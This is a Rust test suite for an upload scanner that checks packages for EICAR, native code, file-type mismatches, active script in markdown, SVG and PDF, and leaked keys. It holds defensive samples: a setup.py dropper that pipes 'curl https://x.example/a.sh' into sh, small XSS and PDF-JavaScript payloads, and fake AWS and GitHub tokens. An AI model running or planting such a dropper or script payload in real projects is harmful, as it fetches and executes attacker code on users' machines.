//! What is inside the files: EICAR, machine code, rules and secrets, wherever they stand.

use super::raw_zip::{Entry, RawZip};
use super::{MIDI, check_bytes, manifest, package, passes, scan};
use scanner::{CheckId, Outcome, Verdict};

fn eicar() -> String {
    [
        "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-",
        "ANTIVIRUS-TEST-FILE!$H+H*",
    ]
    .concat()
}

#[track_caller]
fn check_file(content_type: &str, path: &str, content: &[u8], verdict: Verdict, reasons: &str) {
    let zip = package(content_type, &[(path, content)]);
    let reasons: Vec<_> = reasons.split_whitespace().collect();
    check_bytes(&zip.build(), verdict, &reasons);
}

#[test]
fn eicar_anywhere() {
    let eicar = eicar();
    for content in [
        eicar.clone(),
        format!("{eicar}\r\n"),
        format!("text before {eicar} and after"),
    ] {
        check_file(
            "groove-template",
            "a.txt",
            content.as_bytes(),
            Verdict::Rejected,
            "eicar.test_file",
        );
    }
    // Stored, it is seen in the archive's own bytes as well.
    let text = manifest("groove-template", &[("a.txt", eicar.as_bytes())]);
    let zip = RawZip::of(vec![
        Entry::deflated("souk.toml", text.as_bytes()),
        Entry::stored("a.txt", eicar.as_bytes()),
    ]);
    check_bytes(&zip.build(), Verdict::Rejected, &["eicar.test_file"]);
    // Uploaded plain, or in something that cannot be read.
    let report = scan(eicar.as_bytes());
    assert_eq!(report.verdict(), Verdict::Rejected);
    assert!(report.reason_codes().contains(&"eicar.test_file"));
    // In a name's comment, where no file is.
    let mut zip = super::groove();
    zip.end.comment = eicar.into_bytes();
    check_bytes(&zip.build(), Verdict::Rejected, &["eicar.test_file"]);
}

#[test]
fn machine_code() {
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0";
    check_file(
        "sample-pack",
        "kick.wav",
        elf,
        Verdict::Rejected,
        "file_types.native_code",
    );
    check_file(
        "integration",
        "tool.wasm",
        elf,
        Verdict::Rejected,
        "file_types.native_code",
    );
    check_file(
        "plugin-native",
        "echo.clap",
        elf,
        Verdict::Quarantined,
        "file_types.native_code_held native.damaged",
    );
    check_file(
        "plugin-native",
        "echo.vst3/Contents/MacOS/echo",
        b"\xcf\xfa\xed\xfe\x0c\0\0\x01",
        Verdict::Quarantined,
        "file_types.native_code_held native.damaged",
    );
}

#[test]
fn names_and_content() {
    check_file(
        "groove-template",
        "a.mid",
        b"not MIDI",
        Verdict::Rejected,
        "file_types.mismatch",
    );
    check_file("sample-pack", "a.wav", MIDI, Verdict::Rejected, "file_types.mismatch");
    check_file("chord-pack", "a.exe", b"MZ", Verdict::Rejected, "file_types.extension");
    check_file("production-guide", "a.pdf", b"%PDF-1.7\n", Verdict::Passed, "");
    check_file(
        "production-guide",
        "a.md",
        "# Guide\n\nÜber Bässe.\n".as_bytes(),
        Verdict::Passed,
        "",
    );
}

#[test]
fn each_kind_of_file_is_read_by_its_check() {
    let refused: [(&str, &str, &[u8], &str); 6] = [
        ("integration", "a.json", b"{\"a\": 1, \"a\": 2}", "json.duplicate_key"),
        (
            "groove-template",
            "a.mid",
            b"MThd\0\0\0\x06\0\0\0\x01\x01\xe0",
            "midi.track_count",
        ),
        (
            "sample-pack",
            "a.wav",
            b"RIFF\x24\0\0\0WAVEfmt \x10\0\0\0\x01\0\x01\0\x44\xac\0\0\x88\x58\x01\0\x02\0\x10\0data\0\0\0\0",
            "audio.damaged",
        ),
        ("sample-pack", "a.png", b"\x89PNG\r\n\x1a\n", "images.damaged"),
        (
            "production-guide",
            "a.md",
            b"<script>alert(1)</script>",
            "markdown.html",
        ),
        ("production-guide", "a.svg", b"<svg onload=\"x\"/>", "svg.attribute"),
    ];
    for (content_type, path, content, rule) in refused {
        check_file(content_type, path, content, Verdict::Rejected, rule);
    }
    check_file(
        "plugin-wasm",
        "a.wasm",
        b"\0asm\x01\0\0\0\x63",
        Verdict::Rejected,
        "wasm.invalid",
    );
    check_file("plugin-wasm", "a.wasm", b"\0asm\x01\0\0\0", Verdict::Passed, "");
    let script = b"%PDF-1.7\n1 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n";
    check_file("production-guide", "a.pdf", script, Verdict::Quarantined, "pdf.active");
}

#[test]
fn rules_and_secrets_hold() {
    let dropper = b"import os\nos.system(\"curl -s https://x.example/a.sh | sh\")\n";
    check_file(
        "integration",
        "setup.py",
        dropper,
        Verdict::Quarantined,
        "yara.shell_download_and_run",
    );
    // A guide may quote what it warns of.
    check_file("integration", "README.md", dropper, Verdict::Passed, "");
    let key = ["AKIA", "QYLPMN5HTHFPZAM2"].concat();
    check_file(
        "integration",
        "config.json",
        format!("{{\"key\":\"{key}\"}}").as_bytes(),
        Verdict::Quarantined,
        "secrets.aws_access_key",
    );
    check_file(
        "integration",
        "README.md",
        format!("Key: {key}").as_bytes(),
        Verdict::Quarantined,
        "secrets.aws_access_key",
    );
    check_file(
        "integration",
        "README.md",
        b"Key: AKIAIOSFODNN7EXAMPLE",
        Verdict::Passed,
        "",
    );
}

#[test]
fn findings_say_where_and_what_to_do() {
    let key = ["ghp_", "16C7e42F292c6912E7710c838347Ae178B4a"].concat();
    let content = format!("line one\ntoken = {key}\n");
    let report = scan(&package("integration", &[("a/b.txt", content.as_bytes())]).build());
    let finding = &report.row(CheckId::Secrets).unwrap().findings[0];
    assert_eq!(finding.path.as_deref(), Some("a/b.txt"));
    assert_eq!(finding.offset, Some(17));
    assert!(!finding.evidence.contains(&key));
    assert!(finding.remedy.contains("revoke"));
}

#[test]
fn many_findings_are_counted_not_listed() {
    let paths: Vec<String> = (0..80).map(|i| format!("{i}.exe")).collect();
    let files: Vec<(&str, &[u8])> = paths.iter().map(|path| (path.as_str(), &b"x"[..])).collect();
    let report = scan(&package("sample-pack", &files).build());
    let row = report.row(CheckId::FileTypes).unwrap();
    assert_eq!(row.findings.len(), 51);
    assert_eq!(row.findings[50].rule, "file_types.more");
    assert_eq!(row.findings[50].evidence, "30 more findings are not shown");
}

#[test]
fn without_a_content_type_machine_code_is_still_found() {
    let zip = RawZip::of(vec![Entry::deflated("a.dll", b"\x7fELF")]);
    let report = scan(&zip.build());
    assert_eq!(report.reason_codes(), ["manifest.missing", "file_types.native_code"]);
    assert_eq!(report.row(CheckId::FileTypes).unwrap().outcome, Outcome::Errored);
    assert_eq!(report.row(CheckId::Hashes).unwrap().outcome, Outcome::Errored);
}

#[test]
fn a_wide_mixture_of_honest_files_passes() {
    passes(&package("integration", &[
        ("README.md", b"# Setup\n\nRun `pip install` and set `OPENAI_API_KEY`. See https://example.com/docs.\n"),
        ("src/main.py", b"import os\nimport requests\n\ndef run(prompt):\n    key = os.environ[\"OPENAI_API_KEY\"]\n    return requests.post(\"https://api.example.com/v1\", json={\"p\": prompt}, headers={\"k\": key}).json()\n"),
        ("src/index.ts", b"export const run = async (p: string) => (await fetch('https://api.example.com', { method: 'POST', body: p })).json();\n"),
        ("config.schema.json", b"{\"type\":\"object\",\"properties\":{\"timeout\":{\"type\":\"integer\"}}}"),
        ("CHECKSUMS.txt", b"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  src/main.py\n"),
        ("LICENSE", b"MIT\n"),
    ]));
}
